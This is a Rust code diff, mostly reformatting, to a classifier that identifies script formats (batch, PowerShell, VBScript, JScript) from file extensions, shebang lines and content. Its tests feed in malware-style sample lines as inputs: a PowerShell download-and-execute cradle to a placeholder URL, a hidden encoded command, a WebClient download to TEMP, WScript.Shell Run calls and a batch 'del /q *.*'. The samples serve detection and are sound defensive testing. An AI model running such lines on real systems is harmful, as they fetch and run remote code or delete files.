@@ -9,20 +9,9 @@ use model::Format;
 pub(super) fn classify(body: &str, lower: &str, extension: &str) -> Option<Format> {
     by_extension(extension)
         .or_else(|| shebang(lower))
-        .or_else(|| {
-            body.get(..body.len().min(200))
-                .or(Some(body))
-                .filter(|start| start.contains("#@~^"))
-                .map(|_| Format::ScriptVbs)
-        })
+        .or_else(|| body.get(..body.len().min(200)).or(Some(body)).filter(|start| start.contains("#@~^")).map(|_| Format::ScriptVbs))
         .or_else(|| batch(lower))
-        .or_else(|| {
-            if is_source(extension) {
-                None
-            } else {
-                structure(lower)
-            }
-        })
+        .or_else(|| if is_source(extension) { None } else { structure(lower) })
 }
 
 fn by_extension(extension: &str) -> Option<Format> {
@@ -37,8 +26,7 @@ fn by_extension(extension: &str) -> Option<Format> {
         "pl" | "pm" => Format::ScriptPerl,
         "rb" => Format::ScriptRuby,
         "php" | "phtml" | "php3" | "php5" | "phar" => Format::ScriptPhp,
-        "lua" | "tcl" | "au3" | "scpt" | "applescript" | "ahk" | "nse" | "awk" | "jsx" | "ksx"
-        | "scr" | "msc" => Format::ScriptOther,
+        "lua" | "tcl" | "au3" | "scpt" | "applescript" | "ahk" | "nse" | "awk" | "jsx" | "ksx" | "scr" | "msc" => Format::ScriptOther,
         _ => return None,
     })
 }
@@ -86,17 +74,10 @@ fn shebang(lower: &str) -> Option<Format> {
     let words = line.split(|c: char| c.is_whitespace() || c == '/');
     let name = words
         .filter(|word| !word.is_empty() && !word.starts_with('-') && !word.contains('='))
-        .find(|word| {
-            !matches!(
-                *word,
-                "usr" | "bin" | "local" | "opt" | "env" | "sbin" | "homebrew"
-            )
-        })?;
+        .find(|word| !matches!(*word, "usr" | "bin" | "local" | "opt" | "env" | "sbin" | "homebrew"))?;
     let name = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
     Some(match name {
-        "sh" | "bash" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "fish" | "ash" | "busybox" => {
-            Format::ScriptShell
-        }
+        "sh" | "bash" | "zsh" | "dash" | "ksh" | "csh" | "tcsh" | "fish" | "ash" | "busybox" => Format::ScriptShell,
         "python" | "pypy" => Format::ScriptPython,
         "perl" => Format::ScriptPerl,
         "ruby" => Format::ScriptRuby,
@@ -108,15 +89,8 @@ fn shebang(lower: &str) -> Option<Format> {
 }
 
 fn batch(lower: &str) -> Option<Format> {
-    let first = lower
-        .lines()
-        .map(str::trim)
-        .find(|line| !line.is_empty())?
-        .trim_start_matches('@')
-        .trim_start();
-    let starts = ["echo off", "echo on", "setlocal", "cmd /c", "cmd.exe /c"]
-        .iter()
-        .any(|start| first.starts_with(start));
+    let first = lower.lines().map(str::trim).find(|line| !line.is_empty())?.trim_start_matches('@').trim_start();
+    let starts = ["echo off", "echo on", "setlocal", "cmd /c", "cmd.exe /c"].iter().any(|start| first.starts_with(start));
     starts.then_some(Format::ScriptBatch)
 }
 
@@ -175,21 +149,14 @@ const LANGUAGES: &[Language] = &[
             "get-content",
             "$null",
             "-enc ",
+            "get-childitem",
+            "measure-object",
+            "$erroractionpreference",
         ],
     },
     Language {
         format: Format::ScriptVbs,
-        starts: &[
-            "set ",
-            "dim ",
-            "on error resume next",
-            "createobject(",
-            "wscript.",
-            "execute ",
-            "executeglobal",
-            "sub ",
-            "function ",
-        ],
+        starts: &["set ", "dim ", "on error resume next", "createobject(", "wscript.", "execute ", "executeglobal", "sub ", "function "],
         marks: &[
             "wscript.shell",
             "wscript.createobject",
@@ -230,24 +197,16 @@ const LANGUAGES: &[Language] = &[
 ];
 
 fn structure(lower: &str) -> Option<Format> {
-    let lines: Vec<&str> = lower
-        .lines()
-        .map(str::trim)
-        .filter(|line| !line.is_empty())
-        .take(2000)
-        .collect();
+    let lines: Vec<&str> = lower.lines().map(str::trim).filter(|line| !line.is_empty()).take(2000).collect();
     let code = lines.iter().filter(|line| is_code(line)).count();
     if code * 2 < lines.len() || lines.is_empty() {
         return None;
     }
     let fits = |language: &&Language| {
-        let starts = lines.iter().any(|line| {
-            language.starts.iter().any(|start| line.starts_with(start))
-                || line.starts_with('$') && line.contains('=')
-        });
-        let marks = lines
+        let starts = lines
             .iter()
-            .any(|line| is_code(line) && language.marks.iter().any(|mark| line.contains(mark)));
+            .any(|line| language.starts.iter().any(|start| line.starts_with(start)) || line.starts_with('$') && line.contains('='));
+        let marks = lines.iter().any(|line| is_code(line) && language.marks.iter().any(|mark| line.contains(mark)));
         starts && marks
     };
     LANGUAGES.iter().find(fits).map(|language| language.format)
@@ -255,6 +214,25 @@ fn structure(lower: &str) -> Option<Format> {
 
 /// A line as programs have them: ends like a statement or block, assigns, calls, comments, or starts with a keyword.
 fn is_code(line: &str) -> bool {
+    // Approved verbs of PowerShell that begin most commands.
+    const CMDLET_VERBS: [&str; 16] = [
+        "add",
+        "convertto",
+        "export",
+        "foreach",
+        "get",
+        "import",
+        "invoke",
+        "new",
+        "out",
+        "remove",
+        "select",
+        "set",
+        "start",
+        "stop",
+        "where",
+        "write",
+    ];
     const KEYWORDS: [&str; 22] = [
         "set ",
         "dim ",
@@ -290,19 +268,11 @@ fn is_code(line: &str) -> bool {
             || word.starts_with("pwsh")
             || word.starts_with("iex")
             || word.contains('-') && line.contains(" -") && word.split('-').count() == 2
+            || word.split_once('-').is_some_and(|(verb, noun)| CMDLET_VERBS.contains(&verb) && noun.chars().all(char::is_alphabetic))
     });
-    let method = line
-        .split([' ', '('])
-        .next()
-        .and_then(|word| word.split_once('.'))
-        .is_some_and(|(object, name)| {
-            !object.is_empty()
-                && name.len() > 1
-                && object
-                    .chars()
-                    .chain(name.chars())
-                    .all(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
-        });
+    let method = line.split([' ', '(']).next().and_then(|word| word.split_once('.')).is_some_and(|(object, name)| {
+        !object.is_empty() && name.len() > 1 && object.chars().chain(name.chars()).all(|c| c.is_alphanumeric() || matches!(c, '_' | '.'))
+    });
     let keyword = KEYWORDS.iter().any(|keyword| line.starts_with(keyword));
     !sentence
         && (ends
@@ -322,12 +292,9 @@ mod tests {
 
     #[test]
     fn extensions_and_interpreter_lines_decide() {
-        for (extension, format) in [
-            ("bat", Format::ScriptBatch),
-            ("ps1", Format::ScriptPowershell),
-            ("jse", Format::ScriptJs),
-            ("pyw", Format::ScriptPython),
-        ] {
+        for (extension, format) in
+            [("bat", Format::ScriptBatch), ("ps1", Format::ScriptPowershell), ("jse", Format::ScriptJs), ("pyw", Format::ScriptPython)]
+        {
             assert_eq!(text::classify("whatever it says", extension), format);
         }
         for (line, format) in [
@@ -346,26 +313,12 @@ mod tests {
     fn structure_shows_in_any_file() {
         for (source, format) in [
             ("@echo off\r\ndel /q *.*\r\n", Format::ScriptBatch),
-            (
-                "IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n",
-                Format::ScriptPowershell,
-            ),
-            (
-                "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA\n",
-                Format::ScriptPowershell,
-            ),
-            (
-                "$a = $env:TEMP\n$b = New-Object System.Net.WebClient\n$b.DownloadFile('u', $a)\n",
-                Format::ScriptPowershell,
-            ),
-            (
-                "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\", 0, False\nWScript.Sleep 10\n",
-                Format::ScriptVbs,
-            ),
-            (
-                "var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n",
-                Format::ScriptJs,
-            ),
+            ("IEX (New-Object Net.WebClient).DownloadString('http://x/y')\n", Format::ScriptPowershell),
+            ("param([string]$Ordner = '.')\n$ErrorActionPreference = 'Stop'\nWrite-Host \"Dateien: $Ordner\"\n", Format::ScriptPowershell),
+            ("powershell.exe -nop -w hidden -EncodedCommand SQBFAFgA\n", Format::ScriptPowershell),
+            ("$a = $env:TEMP\n$b = New-Object System.Net.WebClient\n$b.DownloadFile('u', $a)\n", Format::ScriptPowershell),
+            ("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"calc.exe\", 0, False\nWScript.Sleep 10\n", Format::ScriptVbs),
+            ("var s = new ActiveXObject('WScript.Shell');\ns.Run('calc');\n", Format::ScriptJs),
             ("#@~^DgAAAA==\\ko$K6,JCr~", Format::ScriptVbs),
         ] {
             assert_eq!(text::classify(source, "txt"), format, "{source}");
@@ -383,15 +336,9 @@ mod tests {
             assert_eq!(text::classify(source, "txt"), Format::Txt, "{source}");
         }
         assert_eq!(
-            text::classify(
-                "rule a { strings: $a = \"Invoke-Expression\"\n$b = \"$env:\"\ncondition: all of them }",
-                "yar"
-            ),
+            text::classify("rule a { strings: $a = \"Invoke-Expression\"\n$b = \"$env:\"\ncondition: all of them }", "yar"),
             Format::Txt
         );
-        assert_eq!(
-            text::classify("/* c */\nint main(void) {\n  return 0;\n}\n", "c"),
-            Format::Txt
-        );
+        assert_eq!(text::classify("/* c */\nint main(void) {\n  return 0;\n}\n", "c"), Format::Txt);
     }
 }
